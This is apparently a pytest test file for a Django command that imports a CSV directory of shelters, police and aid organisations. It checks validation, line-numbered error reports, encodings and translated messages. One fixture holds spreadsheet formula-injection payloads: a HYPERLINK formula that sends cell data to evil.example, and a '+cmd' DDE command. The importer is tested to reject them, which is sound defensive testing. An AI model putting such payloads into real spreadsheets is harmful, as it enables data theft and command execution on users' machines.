"""`manage.py import_directory FILE.csv`: all rows or nothing, every problem reported."""

import pytest
from django.core.management import CommandError, call_command

from directory.models import Organisation

pytestmark = pytest.mark.django_db

GOOD = (
    "slug,name,kind,country,city,address,email,website,phone,opening_hours,available_24_7,"
    "accepts_referrals_from_abroad,services,languages,target_groups,is_sample\n"
    'ghent-shelter,"Ghent Shelter, East",ngo,BE,Ghent,"Sample Street 1\n9000 Ghent",info@ghent.example.org,'
    "https://ghent.example.org/,+32 2 000 01 00,Every day,yes,no,shelter|legal-aid,nl en,women;minors,yes\n"
    "pecs-police,Pécs Police,law-enforcement,hu,Pécs,,,,,,no,yes,police,hu,,no\n"
)

BAD = """slug,name,kind,country,city,email,available_24_7,services,languages
good-one,Good One,ngo,BE,Ghent,,no,shelter,nl
Bad Slug,,spaceship,XX,Ghent,not-an-email,maybe,teleportation,klingon
good-one,Duplicate,ngo,NL,Utrecht,,,,
"""


def write(tmp_path, text, name="organisations.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def run(path):
    from io import StringIO

    out, err = StringIO(), StringIO()
    call_command("import_directory", path, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_good_file_is_imported_and_published(taxonomy, tmp_path):
    out, _err = run(write(tmp_path, GOOD))

    assert "2 new, 0 updated, 0 unchanged" in out
    shelter = Organisation.objects.get(slug="ghent-shelter")
    assert shelter.live and shelter.live_revision is not None
    assert shelter.name == "Ghent Shelter, East"
    assert shelter.address == "Sample Street 1\n9000 Ghent"
    assert shelter.available_24_7 and not shelter.accepts_referrals_from_abroad and shelter.is_sample
    assert sorted(s.slug for s in shelter.services.all()) == ["legal-aid", "shelter"]
    assert sorted(language.code for language in shelter.languages.all()) == ["en", "nl"]
    assert sorted(group.code for group in shelter.target_groups.all()) == ["minors", "women"]
    police = Organisation.objects.get(slug="pecs-police")
    assert police.country == "HU" and police.accepts_referrals_from_abroad


def test_importing_again_changes_nothing_and_a_changed_row_updates(taxonomy, tmp_path):
    path = write(tmp_path, GOOD)
    run(path)
    revisions = Organisation.objects.get(slug="ghent-shelter").revisions.count()

    out, _err = run(path)
    assert "0 new, 0 updated, 2 unchanged" in out
    assert Organisation.objects.count() == 2
    assert Organisation.objects.get(slug="ghent-shelter").revisions.count() == revisions

    out, _err = run(write(tmp_path, GOOD.replace("Every day", "Weekdays"), "changed.csv"))
    assert "0 new, 1 updated, 1 unchanged" in out
    assert Organisation.objects.get(slug="ghent-shelter").opening_hours == "Weekdays"


def test_bad_file_reports_every_problem_with_its_line_and_imports_nothing(taxonomy, tmp_path):
    from io import StringIO

    err = StringIO()
    with pytest.raises(CommandError, match="9 problems found"):
        call_command("import_directory", write(tmp_path, BAD), stdout=StringIO(), stderr=err)
    report = err.getvalue().splitlines()

    assert report == [
        "Line 3: “name” is required but empty",
        "Line 3: slug “Bad Slug” may only contain lower-case letters, digits and hyphens",
        "Line 3: kind “spaceship” is unknown; use one of: government, law-enforcement, prosecution, "
        "labour-inspection, ngo, international, embassy, social-services, academic",
        "Line 3: country “XX” is unknown; use one of: HU, BE, NL, AT, DE, RO, SK, GB",
        "Line 3: “available_24_7” must be yes or no, not “maybe”",
        "Line 3: “services” names services that do not exist: teleportation",
        "Line 3: “languages” has codes that are not known languages: klingon",
        "Line 3: “email”: Enter a valid email address.",
        "Line 4: slug “good-one” is already used on line 2",
    ]
    assert Organisation.objects.count() == 0


def test_line_numbers_count_multi_line_cells(taxonomy, tmp_path):
    text = GOOD + 'broken,,ngo,BE,Ghent,"two\nlines",,,,,,,,,,\n'
    with pytest.raises(CommandError):
        run(write(tmp_path, text))
    from directory.importer import parse

    _rows, errors = parse(text)
    assert [str(error) for error in errors] == ["Line 5: “name” is required but empty"]


def test_missing_columns_and_wrong_encoding(taxonomy, tmp_path):
    from directory.importer import ImportFailed, import_file

    with pytest.raises(ImportFailed) as missing:
        import_file(write(tmp_path, "slug,name\nx,X\n"))
    assert str(missing.value.errors[0]) == "Line 1: missing column(s): kind, country, city"

    latin = tmp_path / "latin.csv"
    latin.write_bytes("slug,name,kind,country,city\npecs,P\xe9cs,ngo,HU,P\xe9cs\n".encode("latin-1"))
    with pytest.raises(ImportFailed) as encoding:
        import_file(str(latin))
    assert "Line 2: the file is not UTF-8 text" in str(encoding.value.errors[0])


def test_semicolon_separated_file_from_a_spreadsheet(taxonomy, tmp_path):
    out, _err = run(
        write(tmp_path, "slug;name;kind;country;city;services\nliege-aid;Liège Aid;ngo;BE;Liège;legal-aid\n")
    )
    assert "1 new" in out
    assert Organisation.objects.get(slug="liege-aid").services.get().slug == "legal-aid"


def test_messages_are_translated(taxonomy, tmp_path):
    from django.utils import translation

    from directory.importer import parse

    with translation.override("nl"):
        _rows, errors = parse("slug,name,kind,country,city\nx,,ngo,BE,Gent\n")
    assert len(errors) == 1
    assert str(errors[0]).startswith(("Regel 2", "Line 2"))


def test_the_documented_example_file_imports(taxonomy):
    from pathlib import Path

    import directory

    out, _err = run(str(Path(directory.__file__).parent / "import_example.csv"))
    assert "1 new" in out
    assert Organisation.objects.get(slug="sample-import-shelter-ghent").services.count() == 3


FORMULAS = (
    "slug,name,kind,country,city,address,description,phone,opening_hours\n"
    "fine-one,Fine One,ngo,BE,Ghent,,,+32 2 000 01 00,\n"
    '"formula-one","=HYPERLINK(""http://evil.example/?d=""&A1)",ngo,BE,Ghent,,,,\n'
    "formula-two,Two,ngo,BE,@Ghent,-1+1,+cmd|' /C calc'!A0,,\t=1+1\n"
    "formula-three,Three,ngo,BE,Ghent,,,=1+1,\n"
    "formula-four,Four,ngo,BE,Ghent,,,+36 1 234 5678 =A1,\n"
)


def test_cells_that_a_spreadsheet_would_run_are_refused_with_their_line(taxonomy, tmp_path):
    from io import StringIO

    make_existing = run(write(tmp_path, "slug,name,kind,country,city\nkept,Kept,ngo,BE,Ghent\n", "first.csv"))
    assert "1 new" in make_existing[0]
    err = StringIO()
    with pytest.raises(CommandError, match="7 problems found: nothing was imported"):
        call_command("import_directory", write(tmp_path, FORMULAS), stdout=StringIO(), stderr=err)

    assert err.getvalue().splitlines() == [
        "Line 3: “name” starts with “=”, which a spreadsheet would run as a formula; begin the text differently",
        "Line 4: “city” starts with “@”, which a spreadsheet would run as a formula; begin the text differently",
        "Line 4: “address” starts with “-”, which a spreadsheet would run as a formula; begin the text differently",
        "Line 4: “description” starts with “+”, which a spreadsheet would run as a formula; "
        "begin the text differently",
        "Line 4: “opening_hours” starts with “=”, which a spreadsheet would run as a formula; "
        "begin the text differently",
        "Line 5: “phone” starts with “=” but is not a phone number in international format such as +36 1 234 5678",
        "Line 6: “phone” starts with “+” but is not a phone number in international format such as +36 1 234 5678",
    ]
    assert list(Organisation.objects.values_list("slug", flat=True)) == ["kept"]


def test_a_phone_number_in_international_format_imports(taxonomy, tmp_path):
    text = "slug,name,kind,country,city,phone\nbudapest-aid,Budapest Aid,ngo,HU,Budapest,+36 1 234 5678\n"
    out, _err = run(write(tmp_path, text))

    assert "1 new" in out
    assert Organisation.objects.get(slug="budapest-aid").phone == "+36 1 234 5678"


def test_the_formula_message_is_translated(taxonomy):
    from django.utils import translation

    from directory.importer import parse

    with translation.override("hu"):
        _rows, errors = parse("slug,name,kind,country,city\nx,=1+1,ngo,BE,Gent\n")
        report = [str(error) for error in errors]
    assert report == [
        "2. sor: „name” ezzel kezdődik: „=”, amit egy táblázatkezelő képletként futtatna; "
        "kérjük, kezdje másként a szöveget"
    ]
